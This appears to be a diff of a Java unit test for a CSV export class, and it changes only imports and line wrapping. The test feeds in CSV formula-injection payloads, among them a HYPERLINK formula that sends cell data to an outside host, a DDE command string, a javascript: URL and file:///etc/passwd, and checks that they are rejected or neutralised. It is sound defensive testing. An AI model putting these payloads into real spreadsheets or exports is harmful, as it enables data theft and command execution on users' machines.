@@ -1,7 +1,6 @@
 package synoptic.export;
 
 import static org.assertj.core.api.Assertions.assertThat;
-
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.StringReader;
@@ -10,8 +9,8 @@ import java.nio.file.Path;
 import java.util.List;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
-import synoptic.article.Origin;
 import org.junit.jupiter.api.Test;
+import synoptic.article.Origin;
 import synoptic.comparison.Comparison;
 import synoptic.export.ComparisonCsv.Listing;
 
@@ -22,7 +21,8 @@ class ComparisonCsvTest {
         for (String address : List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"press\")", "=calc|'/C dir'!A0", "javascript:alert(1)",
                 "\\\\host\\share\\x", "file:///etc/passwd", "https://x.example/" + "a".repeat(3_000))) {
             assertThat(Origin.Page.isLink(address)).as(address).isFalse();
-            Table table = new Table("sources", List.of(new Table.Column("Read from", 9)), List.of(List.of(new Table.Cell.Address(address))));
+            Table table =
+                    new Table("sources", List.of(new Table.Column("Read from", 9)), List.of(List.of(new Table.Cell.Address(address))));
             ByteArrayOutputStream out = new ByteArrayOutputStream();
             ComparisonCsv.print(table, out);
             assertThat(out.toString(StandardCharsets.UTF_8).split("\r\n", -1)[1].replaceFirst("^\"", "").charAt(0)).isNotEqualTo('=');
